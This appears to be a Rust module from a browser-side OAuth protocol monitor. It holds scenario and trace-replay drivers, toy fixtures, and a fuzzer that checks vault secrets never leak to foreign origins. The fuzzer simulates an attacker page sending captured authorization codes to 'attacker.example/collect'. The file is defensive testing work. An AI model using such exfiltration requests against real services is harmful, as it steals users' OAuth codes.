//! Batch drivers for the monitor: scenario suites, raw trace replay and a
//! randomized confinement fuzzer.
//!
//! Traces and scenario runs are independent of each other, so the batch entry
//! points fan out over a rayon pool when the `parallel` feature (default) is
//! enabled. The `*_sequential` variants always run on the calling thread; the
//! benchmark suite compares the two.

use std::sync::Arc;
use std::time::Duration;

#[cfg(feature = "parallel")]
use rayon::prelude::*;

use rand::{Rng, RngCore, SeedableRng};
use rand_chacha::ChaCha20Rng;

use crate::automaton::{compose, Automaton};
use crate::engine::{EngineConfig, EventOutcome, MonitorContext, VaultEntry, Verdict};
use crate::http::{origin_of, parse_url, HttpEvent, HttpRequest, HttpResponse};
use crate::scenario::{run_scenario, Scenario, ScenarioError, ScenarioReport};
use crate::spec::ProtocolSpec;

/// Run a scenario suite; output order matches input order. Each scenario gets
/// a derived seed `base_seed + index` so reports are reproducible regardless
/// of scheduling.
#[cfg(feature = "parallel")]
pub fn run_scenarios(
    scenarios: &[Scenario],
    resolve_spec: &(dyn Fn(&str) -> Option<String> + Sync),
    base_seed: u64,
) -> Vec<Result<ScenarioReport, ScenarioError>> {
    scenarios
        .par_iter()
        .enumerate()
        .map(|(i, sc)| run_scenario(sc, resolve_spec, base_seed.wrapping_add(i as u64)))
        .collect()
}

#[cfg(not(feature = "parallel"))]
pub fn run_scenarios(
    scenarios: &[Scenario],
    resolve_spec: &(dyn Fn(&str) -> Option<String> + Sync),
    base_seed: u64,
) -> Vec<Result<ScenarioReport, ScenarioError>> {
    run_scenarios_sequential(scenarios, resolve_spec, base_seed)
}

pub fn run_scenarios_sequential(
    scenarios: &[Scenario],
    resolve_spec: &(dyn Fn(&str) -> Option<String> + Sync),
    base_seed: u64,
) -> Vec<Result<ScenarioReport, ScenarioError>> {
    scenarios
        .iter()
        .enumerate()
        .map(|(i, sc)| run_scenario(sc, resolve_spec, base_seed.wrapping_add(i as u64)))
        .collect()
}

/// Replay one event trace through a fresh seeded context.
pub fn replay_trace(
    automaton: &Arc<Automaton>,
    config: &EngineConfig,
    events: &[HttpEvent],
) -> Vec<EventOutcome> {
    let mut ctx = MonitorContext::with_seed(automaton.clone(), config.clone(), "replay", 0)
        .expect("valid engine config");
    events
        .iter()
        .map(|e| ctx.on_event(e.clone(), Duration::ZERO))
        .collect()
}

/// Replay many independent traces, one fresh context each.
#[cfg(feature = "parallel")]
pub fn replay_traces(
    automaton: &Arc<Automaton>,
    config: &EngineConfig,
    traces: &[Vec<HttpEvent>],
) -> Vec<Vec<EventOutcome>> {
    traces
        .par_iter()
        .map(|t| replay_trace(automaton, config, t))
        .collect()
}

#[cfg(not(feature = "parallel"))]
pub fn replay_traces(
    automaton: &Arc<Automaton>,
    config: &EngineConfig,
    traces: &[Vec<HttpEvent>],
) -> Vec<Vec<EventOutcome>> {
    replay_traces_sequential(automaton, config, traces)
}

pub fn replay_traces_sequential(
    automaton: &Arc<Automaton>,
    config: &EngineConfig,
    traces: &[Vec<HttpEvent>],
) -> Vec<Vec<EventOutcome>> {
    traces
        .iter()
        .map(|t| replay_trace(automaton, config, t))
        .collect()
}

/// Inject `count` protocol-unrelated requests between every pair of scenario
/// steps (and before the first). Used to exercise the pausing semantics:
/// verdicts on the original steps must not change.
pub fn with_unrelated_injections(scenario: &Scenario, count: usize) -> Scenario {
    use crate::scenario::{Actor, Expectation, ScenarioStep, StepEvent};
    let mut steps = Vec::new();
    for (i, step) in scenario.steps.iter().enumerate() {
        for k in 0..count {
            steps.push(ScenarioStep {
                actor: Actor::Browser,
                event: StepEvent::Request {
                    method: "GET".to_string(),
                    url: format!("https://static.cdn.example/assets/{i}-{k}.js"),
                    headers: Vec::new(),
                    params: Vec::new(),
                    body: None,
                },
                expect: Expectation::Allow,
                time_offset: step.time_offset,
            });
        }
        steps.push(step.clone());
    }
    Scenario {
        steps,
        ..scenario.clone()
    }
}

/// A miniature two-protocol fixture with overlapping first messages, used by
/// the exhaustive trace checks, the composition-order tests and the benches.
pub mod fixtures {
    use super::*;

    /// Three-message flow over `u.example/go` and `rp.example/done`, with an
    /// integrity policy tying the final `t` parameter to the initial `a`.
    pub const TOY_ALPHA_XML: &str = include_str!("../tests/fixtures/toy-alpha.xml");
    /// Two-message flow whose first message is a strict generalization of
    /// alpha's (parameter `a` only): whichever spec composes first wins the
    /// shared-prefix dispatch.
    pub const TOY_BETA_XML: &str = include_str!("../tests/fixtures/toy-beta.xml");

    pub fn toy_specs() -> Vec<ProtocolSpec> {
        vec![
            crate::spec::parse_spec(TOY_ALPHA_XML).unwrap(),
            crate::spec::parse_spec(TOY_BETA_XML).unwrap(),
        ]
    }

    /// The fixed ten-symbol event alphabet over the toy protocols. Symbols
    /// 0-5 match some guard shape; 6-9 match none.
    pub fn toy_alphabet() -> Vec<HttpEvent> {
        let get = |url: &str| {
            HttpEvent::Request(HttpRequest::new("GET", parse_url(url).unwrap()))
        };
        let resp = |url: &str, headers: &[(&str, &str)]| {
            let mut r = HttpResponse::new(200, parse_url(url).unwrap()).unwrap();
            for (n, v) in headers {
                r.headers.push(*n, *v);
            }
            HttpEvent::Response(r)
        };
        vec![
            get("https://u.example/go?a=1&b=2"),
            get("https://u.example/go?a=1"),
            resp("https://u.example/go", &[("Location", "https://rp.example/done")]),
            resp("https://u.example/go", &[("Done", "1")]),
            get("https://rp.example/done?t=1"),
            get("https://rp.example/done?t=9"),
            get("https://cdn.example/x"),
            resp("https://cdn.example/x", &[]),
            get("https://u.example/other?a=1"),
            resp("https://rp.example/done", &[("Location", "https://x.example/")]),
        ]
    }
}

// ---------------------------------------------------------------------------
// Confinement fuzzing
// ---------------------------------------------------------------------------

#[derive(Debug, Clone)]
pub struct FuzzConfig {
    pub traces: usize,
    pub events_per_trace: usize,
    pub seed: u64,
}

impl Default for FuzzConfig {
    fn default() -> FuzzConfig {
        FuzzConfig {
            traces: 10_000,
            events_per_trace: 16,
            seed: 0xC0FFEE,
        }
    }
}

#[derive(Debug, Default)]
pub struct FuzzReport {
    pub traces: usize,
    pub events: usize,
    pub steps: usize,
    pub blocks: usize,
    /// One entry per observed leak: a vault plaintext found in an allowed
    /// request toward an origin outside its secrecy set.
    pub leaks: Vec<String>,
}

impl FuzzReport {
    fn merge(mut self, other: FuzzReport) -> FuzzReport {
        self.traces += other.traces;
        self.events += other.events;
        self.steps += other.steps;
        self.blocks += other.blocks;
        self.leaks.extend(other.leaks);
        self
    }
}

/// Randomized interleavings of protocol runs, attacker echoes and unrelated
/// noise against the composed OAuth specs; checks that no vault plaintext
/// ever leaves toward an origin outside its secrecy set.
pub fn fuzz_confinement(specs: &[ProtocolSpec], config: &FuzzConfig) -> FuzzReport {
    let automaton = Arc::new(compose(specs).expect("fuzz specs compose"));
    let run = |i: usize| fuzz_one_trace(&automaton, config, i);

    #[cfg(feature = "parallel")]
    {
        (0..config.traces)
            .into_par_iter()
            .map(run)
            .reduce(FuzzReport::default, FuzzReport::merge)
    }
    #[cfg(not(feature = "parallel"))]
    {
        (0..config.traces)
            .map(run)
            .fold(FuzzReport::default(), FuzzReport::merge)
    }
}

const AUTH_ENDPOINT: &str = "https://accounts.google.com/o/oauth2/auth";
const RP_CALLBACK: &str = "https://rp.example/cb";

fn random_token(rng: &mut ChaCha20Rng, len: usize) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    (0..len)
        .map(|_| ALPHABET[rng.gen_range(0..ALPHABET.len())] as char)
        .collect()
}

/// State of the scripted "browser" driving one fuzz trace through the
/// authorization-code flow, with optional state parameter.
struct BenignScript {
    cursor: usize,
    with_state: bool,
    state_nonce: String,
    secret: String,
    placeholder: Option<String>,
}

impl BenignScript {
    fn fresh(rng: &mut ChaCha20Rng) -> BenignScript {
        BenignScript {
            cursor: 0,
            with_state: rng.gen_bool(0.5),
            state_nonce: random_token(rng, 12),
            secret: random_token(rng, 43),
            placeholder: None,
        }
    }

    fn next_event(&self) -> Option<HttpEvent> {
        let state_q = if self.with_state {
            format!("&state={}", self.state_nonce)
        } else {
            String::new()
        };
        match self.cursor {
            0 => Some(HttpEvent::Request(HttpRequest::new(
                "GET",
                parse_url(&format!(
                    "{AUTH_ENDPOINT}?response_type=code&redirect_uri=https%3A%2F%2Frp.example%2Fcb{state_q}"
                ))
                .unwrap(),
            ))),
            1 => {
                let mut resp = HttpResponse::new(
                    302,
                    parse_url(&format!(
                        "{AUTH_ENDPOINT}?response_type=code&redirect_uri=https%3A%2F%2Frp.example%2Fcb{state_q}"
                    ))
                    .unwrap(),
                )
                .unwrap();
                resp.headers.push(
                    "Location",
                    format!("{RP_CALLBACK}?code={}{state_q}", self.secret),
                );
                Some(HttpEvent::Response(resp))
            }
            2 => {
                let code = self.placeholder.as_deref()?;
                Some(HttpEvent::Request(HttpRequest::new(
                    "GET",
                    parse_url(&format!("{RP_CALLBACK}?code={code}{state_q}")).unwrap(),
                )))
            }
            _ => None,
        }
    }
}

fn fuzz_one_trace(automaton: &Arc<Automaton>, config: &FuzzConfig, index: usize) -> FuzzReport {
    let mut rng = ChaCha20Rng::seed_from_u64(config.seed.wrapping_add(index as u64));
    let mut ctx = MonitorContext::with_seed(
        automaton.clone(),
        EngineConfig::default(),
        format!("fuzz-{index}"),
        rng.next_u64(),
    )
    .expect("valid engine config");

    let mut report = FuzzReport {
        traces: 1,
        ..FuzzReport::default()
    };
    let mut script = BenignScript::fresh(&mut rng);
    let mut history: Vec<VaultEntry> = Vec::new();
    // Everything the browser-side has observed; the attacker can echo any of it.
    let mut observed: Vec<String> = Vec::new();

    for tick in 0..config.events_per_trace {
        let now = Duration::from_secs(tick as u64);
        let choice = rng.gen_range(0..100u32);
        let event = if choice < 50 {
            match script.next_event() {
                Some(e) => e,
                None => {
                    script = BenignScript::fresh(&mut rng);
                    script.next_event().expect("fresh script has an event")
                }
            }
        } else if choice < 80 && !observed.is_empty() {
            // Attacker-page exfiltration attempt with something it has seen.
            let item = observed[rng.gen_range(0..observed.len())].clone();
            let mut req = HttpRequest::new(
                "GET",
                parse_url(&format!("https://attacker.example/collect?v={item}")).unwrap(),
            );
            req.headers
                .push("Referer", format!("{RP_CALLBACK}?code={item}"));
            HttpEvent::Request(req)
        } else if choice < 90 {
            // Out-of-order protocol-shaped request with an attacker-known code.
            HttpEvent::Request(HttpRequest::new(
                "GET",
                parse_url(&format!("{RP_CALLBACK}?code={}", random_token(&mut rng, 43))).unwrap(),
            ))
        } else {
            HttpEvent::Request(HttpRequest::new(
                "GET",
                parse_url(&format!("https://cdn.example/x/{tick}")).unwrap(),
            ))
        };

        let benign_step = matches!(&event, e if script.next_event().as_ref() == Some(e));
        let outcome = ctx.on_event(event, now);
        report.events += 1;
        history.extend(outcome.vault_added.iter().cloned());
        for entry in &outcome.vault_added {
            observed.push(entry.placeholder.clone());
        }

        match &outcome.verdict {
            Verdict::Allow(ev) => {
                if let HttpEvent::Request(req) = ev {
                    let dest = origin_of(&req.url);
                    let text = ev.searchable_text();
                    for entry in &history {
                        if !entry.secrecy_set.contains(&dest) && text.contains(&entry.secret) {
                            report.leaks.push(format!(
                                "trace {index} tick {tick}: `{}` plaintext toward {dest}",
                                entry.identifier
                            ));
                        }
                    }
                }
                if outcome.record.classification == "step" {
                    report.steps += 1;
                    if benign_step {
                        script.cursor += 1;
                        if let Some(created) = outcome.record.placeholders_created.first() {
                            script.placeholder = Some(created.placeholder.clone());
                        }
                        if ctx.state_name() == "init" && script.cursor >= 3 {
                            script = BenignScript::fresh(&mut rng);
                        }
                    }
                }
            }
            Verdict::Block { .. } => {
                report.blocks += 1;
                // The monitor reset; the scripted browser starts over.
                script = BenignScript::fresh(&mut rng);
            }
        }
    }
    report
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::catalog;
    use crate::spec::parse_spec;

    #[test]
    fn fuzz_smoke_finds_no_leaks() {
        let specs: Vec<ProtocolSpec> = ["google-authcode-state.xml", "google-authcode.xml"]
            .iter()
            .map(|n| parse_spec(catalog::builtin_spec_xml(n).unwrap()).unwrap())
            .collect();
        let report = fuzz_confinement(
            &specs,
            &FuzzConfig {
                traces: 200,
                events_per_trace: 14,
                seed: 42,
            },
        );
        assert_eq!(report.traces, 200);
        assert!(report.leaks.is_empty(), "leaks: {:?}", report.leaks);
        assert!(report.steps > 0, "fuzzer never progressed a run");
        assert!(report.blocks > 0, "fuzzer never tripped the monitor");
    }

    #[test]
    fn injections_preserve_protocol_step_verdicts() {
        let sc = catalog::builtin_scenarios()
            .unwrap()
            .into_iter()
            .find(|s| s.name == "benign-google-authcode")
            .unwrap();
        let resolver =
            |name: &str| catalog::builtin_spec_xml(name).map(str::to_string);
        let base = run_scenario(&sc, &resolver, 9).unwrap();
        assert!(base.pass);
        for k in 1..=5 {
            let noisy = with_unrelated_injections(&sc, k);
            let report = run_scenario(&noisy, &resolver, 9).unwrap();
            assert!(report.pass, "injection k={k} broke the run:\n{report}");
        }
    }
}
